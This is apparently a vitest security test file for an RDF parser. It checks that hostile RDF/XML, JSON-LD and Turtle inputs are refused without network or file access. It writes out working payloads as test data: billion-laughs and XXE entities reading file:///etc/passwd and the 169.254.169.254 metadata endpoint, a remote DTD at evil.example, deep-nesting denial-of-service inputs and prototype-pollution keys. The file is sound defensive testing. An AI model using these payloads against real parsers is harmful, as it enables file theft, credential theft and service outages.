import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { MAX_JSON_DEPTH } from '../../src/rdf/parse-jsonld.js';
import { MAX_XML_DEPTH } from '../../src/rdf/parse-rdfxml.js';
import { parseRdf, parseRdfToArray, RdfParseError } from '../../src/rdf/parse.js';
import type { RdfSyntax } from '../../src/rdf/syntax.js';

/**
 * Inputs written to hurt: entity expansion, external entities, remote and local JSON-LD contexts,
 * deep nesting, overflowing numbers, cyclic contexts. Each must end in an RdfParseError with a clear
 * reason, quickly, without touching the network or the file system.
 */

const BASE = 'https://kilde.eksempel.no/katalog';

async function refusal(input: string | Buffer, syntax: RdfSyntax): Promise<RdfParseError> {
  const quads: unknown[] = [];
  try {
    await parseRdf(input, { syntax, baseIri: BASE, onQuad: (q) => quads.push(q) });
  } catch (error) {
    expect(error).toBeInstanceOf(RdfParseError);
    return error as RdfParseError;
  }
  throw new Error(`expected the ${syntax} input to be refused, got ${quads.length} quads`);
}

/** Fails the test if anything opens a socket or reads a file while the callback runs. */
let connects: ReturnType<typeof vi.spyOn>;
let fileReads: ReturnType<typeof vi.spyOn>[];
beforeEach(() => {
  connects = vi.spyOn(net.Socket.prototype, 'connect');
  fileReads = [vi.spyOn(fs, 'openSync'), vi.spyOn(fs, 'open'), vi.spyOn(fs, 'readFileSync'), vi.spyOn(fs, 'readFile'), vi.spyOn(fs.promises, 'readFile'), vi.spyOn(fs.promises, 'open')];
  vi.stubGlobal('fetch', vi.fn(() => Promise.reject(new Error('fetch must not be called'))));
});
afterEach(() => {
  expect(connects).not.toHaveBeenCalled();
  for (const spy of fileReads) expect(spy).not.toHaveBeenCalled();
  expect(globalThis.fetch).not.toHaveBeenCalled();
  vi.restoreAllMocks();
  vi.unstubAllGlobals();
});

describe('RDF/XML entity declarations are refused unread', () => {
  const RDF_NS = 'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://ex/"';

  it('a billion-laughs document', async () => {
    const lols = ['<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i++) lols.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [\n ${lols.join('\n ')}\n]>\n<rdf:RDF ${RDF_NS}><rdf:Description rdf:about="http://a"><ex:p>&lol9;</ex:p></rdf:Description></rdf:RDF>`;
    const started = performance.now();
    const error = await refusal(xml, 'rdf-xml');
    expect(performance.now() - started).toBeLessThan(1000);
    expect(error.message).toMatch(/^RDF\/XML error on line 3, column 2: RDF\/XML with entity declarations is refused: /);
  });

  it('an external entity pointing at a local file: refused, and the file is never read', async () => {
    // A real file with a secret, so a leak would be visible in the quads or the message.
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'xxe-'));
    const secret = path.join(dir, 'secret.txt');
    fs.writeFileSync(secret, 'TOP-SECRET-4711');
    vi.restoreAllMocks(); // the spies were counting our own setup; start again
    connects = vi.spyOn(net.Socket.prototype, 'connect');
    fileReads = [vi.spyOn(fs, 'openSync'), vi.spyOn(fs, 'open'), vi.spyOn(fs, 'readFileSync'), vi.spyOn(fs, 'readFile'), vi.spyOn(fs.promises, 'readFile'), vi.spyOn(fs.promises, 'open')];
    try {
      for (const target of [`file://${secret}`, 'file:///etc/passwd', 'http://169.254.169.254/latest/meta-data/']) {
        const xml = `<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [ <!ENTITY xxe SYSTEM "${target}"> ]>\n<rdf:RDF ${RDF_NS}><rdf:Description rdf:about="http://a"><ex:p>&xxe;</ex:p></rdf:Description></rdf:RDF>`;
        const error = await refusal(xml, 'rdf-xml');
        expect(error.reason).toMatch(/^RDF\/XML with entity declarations is refused: the document declares an external entity/);
        expect(error.message).not.toContain('TOP-SECRET');
      }
    } finally {
      vi.restoreAllMocks();
      fs.rmSync(dir, { recursive: true });
      connects = vi.spyOn(net.Socket.prototype, 'connect');
      fileReads = [];
    }
  });

  it('a parameter entity and an entity in a DOCTYPE placed after the root element', async () => {
    await refusal(`<!DOCTYPE rdf:RDF [ <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; ]>\n<rdf:RDF ${RDF_NS}/>`, 'rdf-xml');
    const late = await refusal(`<rdf:RDF ${RDF_NS}/>\n<!DOCTYPE x [ <!ENTITY e "boom"> ]>`, 'rdf-xml');
    expect(late.line).toBe(2);
  });

  it('an internal entity, even a harmless-looking one (as in many OWL files)', async () => {
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [ <!ENTITY dct "http://purl.org/dc/terms/"> ]>\n<rdf:RDF ${RDF_NS}><rdf:Description rdf:about="&dct;title"/></rdf:RDF>`;
    const error = await refusal(xml, 'rdf-xml');
    expect(error.reason).toMatch(/declares an entity in its DOCTYPE/);
  });

  it('a DOCTYPE without entity declarations is fine, and its external DTD is not fetched', async () => {
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF SYSTEM "http://169.254.169.254/rdf.dtd">\n<rdf:RDF ${RDF_NS}><rdf:Description rdf:about="http://a"><ex:p>ok</ex:p></rdf:Description></rdf:RDF>`;
    const quads = await parseRdfToArray(xml, { syntax: 'rdf-xml', baseIri: BASE });
    expect(quads).toHaveLength(1);
  });

  it('an undeclared entity reference is a plain XML error', async () => {
    const error = await refusal(`<rdf:RDF ${RDF_NS}><rdf:Description rdf:about="http://a"><ex:p>&nope;</ex:p></rdf:Description></rdf:RDF>`, 'rdf-xml');
    expect(error.reason).toMatch(/not well-formed XML: undefined entity/);
  });
});

describe('JSON-LD contexts are never fetched or read', () => {
  const doc = (context: unknown) => JSON.stringify({ '@context': context, '@id': 'http://a', 'http://ex/p': 'x' });

  it.each([
    ['file:///etc/passwd', /^JSON-LD context file:\/\/\/etc\/passwd is refused: contexts are never read from file: URLs/],
    ['http://169.254.169.254/latest/meta-data/', /^remote JSON-LD context http:\/\/169\.254\.169\.254\/latest\/meta-data\/ is not fetched; inline it/],
    ['https://schema.org/', /^remote JSON-LD context https:\/\/schema\.org\/ is not fetched; inline it in the document or use one of the bundled contexts \(https:\/\/semiceu/],
    ['ftp://example.org/context.jsonld', /^JSON-LD context ftp:\/\/example\.org\/context\.jsonld is refused/],
    ['data:application/ld+json,{}', /is refused/],
  ])('%s', async (url, message) => {
    const error = await refusal(doc(url), 'json-ld');
    expect(error.reason).toMatch(message);
  });

  it('a relative context is resolved against the base and refused by its full URL', async () => {
    const error = await refusal(doc('context.jsonld'), 'json-ld');
    expect(error.reason).toMatch(/^remote JSON-LD context https:\/\/kilde\.eksempel\.no\/context\.jsonld is not fetched/);
  });

  it('an @import inside an inline context', async () => {
    const error = await refusal(doc({ '@version': 1.1, '@import': 'http://169.254.169.254/ctx' }), 'json-ld');
    expect(error.reason).toMatch(/169\.254\.169\.254/);
  });

  it('a remote context nested in a term definition (scoped context)', async () => {
    const error = await refusal(doc({ p: { '@id': 'http://ex/p', '@context': 'https://evil.example/ctx' } }).replace('"http://ex/p":', '"p":'), 'json-ld');
    expect(error.reason).toMatch(/evil\.example/);
  });

  it('bundled contexts are served from disk without a fetch', async () => {
    const hydra = JSON.stringify({
      '@context': 'http://www.w3.org/ns/hydra/context.jsonld',
      '@id': 'https://kilde.eksempel.no/katalog?page=1',
      '@type': 'PartialCollectionView',
      next: 'https://kilde.eksempel.no/katalog?page=2',
    });
    const quads = await parseRdfToArray(hydra, { syntax: 'json-ld', baseIri: BASE });
    expect(quads.map((q) => [q.predicate.value, q.object.value])).toContainEqual(['http://www.w3.org/ns/hydra/core#next', 'https://kilde.eksempel.no/katalog?page=2']);

    const dcatAp = JSON.stringify({
      '@context': 'https://semiceu.github.io/DCAT-AP/releases/3.0.1/context/dcat-ap.jsonld',
      '@id': 'https://kilde.eksempel.no/datasett/1',
      '@type': 'Dataset',
      title: { '@value': 'Fiskeri i Ålesund', '@language': 'nb' },
    });
    const fromDcatAp = await parseRdfToArray(dcatAp, { syntax: 'json-ld', baseIri: BASE });
    expect(fromDcatAp.map((q) => q.predicate.value)).toEqual(expect.arrayContaining(['http://www.w3.org/1999/02/22-rdf-syntax-ns#type', 'http://purl.org/dc/terms/title']));
  });
});

describe('RDF/XML nested deep enough to hang the parser', () => {
  const RDF_NS = 'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://ex/"';
  /** rdf:RDF, then `levels` rdf:Description/ex:p pairs, each element one level deeper. */
  const nested = (levels: number): string =>
    `<rdf:RDF ${RDF_NS}>${'<rdf:Description><ex:p>'.repeat(levels)}x${'</ex:p></rdf:Description>'.repeat(levels)}</rdf:RDF>`;

  it('20 000 nested elements (0.9 MB, 30 s of parsing before) are refused at the limit, at once', async () => {
    const started = performance.now();
    const error = await refusal(nested(10_000), 'rdf-xml');
    expect(performance.now() - started).toBeLessThan(1000);
    expect(error.reason).toBe(`the document nests elements more than ${MAX_XML_DEPTH} levels deep`);
    expect(error.line).toBe(1);
  });

  it('one level past the limit is refused, the limit itself is parsed', async () => {
    // rdf:RDF is level 1: n pairs reach level 2n + 1.
    const pairs = Math.floor((MAX_XML_DEPTH - 1) / 2);
    const quads = await parseRdfToArray(nested(pairs), { syntax: 'rdf-xml', baseIri: BASE });
    expect(quads).toHaveLength(pairs);
    const over = `<rdf:RDF ${RDF_NS}>${'<rdf:Description><ex:p>'.repeat(pairs)}<rdf:Description><ex:p rdf:resource="http://x"/></rdf:Description>${'</ex:p></rdf:Description>'.repeat(pairs)}</rdf:RDF>`;
    // 2 * pairs + 1 = 255 levels, then a Description (256) and a property (257).
    const error = await refusal(over, 'rdf-xml');
    expect(error.reason).toMatch(/more than 256 levels deep/);
  });
});

describe('JSON-LD that tries to crash or hang the process', () => {
  it('nesting deeper than the limit is refused before processing', async () => {
    const depth = 100_000;
    const deep = `${'{"http://ex/p":'.repeat(depth)}"x"${'}'.repeat(depth)}`;
    const error = await refusal(deep, 'json-ld');
    expect(error.reason).toBe(`the document is nested more than ${MAX_JSON_DEPTH} levels deep`);
    const arrays = await refusal(`${'['.repeat(depth)}${']'.repeat(depth)}`, 'json-ld');
    expect(arrays.reason).toMatch(/nested more than/);
  });

  it('nesting just under the limit is processed', async () => {
    const levels = Math.floor((MAX_JSON_DEPTH - 2) / 2);
    const deep = `{"@id":"http://a",${'"http://ex/p":{'.repeat(levels)}"http://ex/v":"x"${'}'.repeat(levels)}}`;
    const quads = await parseRdfToArray(deep, { syntax: 'json-ld', baseIri: BASE });
    expect(quads).toHaveLength(levels + 1);
  });

  it('a number that overflows to infinity', async () => {
    const error = await refusal('{"@id": "http://a", "http://ex/n": 1e400}', 'json-ld');
    expect(error.reason).toMatch(/too large/);
  });

  it('a very long integer becomes a double, as JSON-LD says', async () => {
    const quads = await parseRdfToArray(`{"@id": "http://a", "http://ex/n": ${'9'.repeat(300)}}`, { syntax: 'json-ld', baseIri: BASE });
    expect(quads[0]!.object.value).toBe('1.0E300');
  });

  it('a cyclic term definition', async () => {
    const error = await refusal(JSON.stringify({ '@context': { a: 'b:x', b: 'a:y' }, '@id': 'http://s', a: 'v' }), 'json-ld');
    expect(error.reason).toMatch(/cyclic IRI mapping/);
  });

  it('a context that includes itself', async () => {
    const error = await refusal(JSON.stringify({ '@context': ['https://kilde.eksempel.no/self', 'https://kilde.eksempel.no/self'], '@id': 'http://s' }), 'json-ld');
    expect(error.reason).toMatch(/not fetched/);
  });

  it('many keys and a long array finish quickly', async () => {
    const wide = JSON.stringify({ '@id': 'http://a', 'http://ex/p': Array.from({ length: 50_000 }, (_, i) => `v${i}`) });
    const started = performance.now();
    const quads = await parseRdfToArray(wide, { syntax: 'json-ld', baseIri: BASE });
    expect(quads).toHaveLength(50_000);
    expect(performance.now() - started).toBeLessThan(10_000);
  });

  it('__proto__ and constructor keys pollute nothing', async () => {
    const quads = await parseRdfToArray(
      '{"@context": {"__proto__": "http://ex/proto", "constructor": "http://ex/c", "polluted": "http://ex/x"}, "@id": "http://a", "__proto__": {"polluted": "yes"}, "constructor": "y"}',
      { syntax: 'json-ld', baseIri: BASE },
    );
    // jsonld cannot define a term named __proto__, so that property is dropped; nothing else changes.
    expect(quads.map((q) => q.predicate.value)).toEqual(['http://ex/c']);
    expect((Object.prototype as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('Turtle and N-Triples oddities', () => {
  it('a single enormous token does not crash', async () => {
    const error = await refusal(`<http://a> <http://b> "${'x'.repeat(5_000_000)}`, 'turtle');
    expect(error.syntax).toBe('turtle');
  });

  it('deeply nested blank nodes and collections', async () => {
    const depth = 5_000;
    const nested = `<http://a> <http://p> ${'[ <http://p> '.repeat(depth)}"x"${' ]'.repeat(depth)} .`;
    const quads = await parseRdfToArray(nested, { syntax: 'turtle', baseIri: BASE });
    expect(quads).toHaveLength(depth + 1);
    const list = `<http://a> <http://p> ${'('.repeat(depth)}${')'.repeat(depth)} .`;
    await expect(parseRdfToArray(list, { syntax: 'turtle', baseIri: BASE })).resolves.toBeDefined();
  });

  it('NUL bytes and binary junk', async () => {
    const junk = Buffer.from([0x3c, 0x00, 0x01, 0x02, 0x3e, 0x20, 0xff]);
    expect((await refusal(junk, 'turtle')).reason).toMatch(/not valid UTF-8/);
    expect((await refusal('<http://a> <http://b> "\u0000" .\n\u0000', 'n-triples')).syntax).toBe('n-triples');
  });

  it('a JSON-LD payload read as Turtle, and Turtle read as RDF/XML, fail cleanly', async () => {
    await refusal('{"@id": "http://a"}', 'turtle');
    await refusal('@prefix ex: <http://ex/> .', 'rdf-xml');
    await refusal('<rdf:RDF/>', 'json-ld');
  });
});

describe('IRIs longer than V8 hashes (16 383 characters): a few are read, thousands are refused', () => {
  const long = `http://x/${'a'.repeat(17_000)}/`;
  const turtle = (n: number): string => `@prefix p: <${long}> .\n${Array.from({ length: n }, (_, i) => `p:s${i} <http://x/p> "v" .`).join('\n')}`;
  const jsonLd = (n: number): string => JSON.stringify({ '@context': { p: long }, '@graph': Array.from({ length: n }, (_, i) => ({ '@id': `p:s${i}`, 'http://x/p': 'v' })) });
  const rdfXml = (n: number): string =>
    `<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:x="http://x/">${Array.from({ length: n }, (_, i) => `<rdf:Description rdf:about="${long}s${i}"><x:p>v</x:p></rdf:Description>`).join('')}</rdf:RDF>`;

  for (const [syntax, text] of [['turtle', turtle], ['json-ld', jsonLd], ['rdf-xml', rdfXml]] as const) {
    it(`${syntax}: 50 such IRIs are read; 4 000 are refused, naming the cause`, async () => {
      expect(await parseRdfToArray(text(50), { syntax, baseIri: BASE })).toHaveLength(50);
      const error = await refusal(text(4_000), syntax);
      expect(error.message).toMatch(/more than 100 distinct IRIs longer than 16383 characters/);
    });
  }
});

describe('JSON-LD contexts embedded below the top', () => {
  const doc = (nodes: number, topTerms: number): string => {
    const top: Record<string, string> = {};
    for (let i = 0; i < topTerms; i++) top[`t${i}`] = `http://x/t${i}`;
    return JSON.stringify({ '@context': top, '@graph': Array.from({ length: nodes }, (_, i) => ({ '@context': { [`z${i}`]: `http://x/z${i}` }, '@id': `http://x/n${i}`, t0: 'v' })) });
  };

  it('are read when few or small: 1 000 nodes with a context each, under a top context of 20 terms', async () => {
    expect(await parseRdfToArray(doc(1_000, 20), { syntax: 'json-ld', baseIri: BASE })).toHaveLength(1_000);
  });

  it('are refused when the context processing they ask for is too much (jsonld copies the active context at each)', async () => {
    const error = await refusal(doc(3_000, 3_000), 'json-ld');
    expect(error.message).toMatch(/embeds 3000 contexts below its top \(the largest of 1 terms, under a top context of 3000\)/);
  });
});
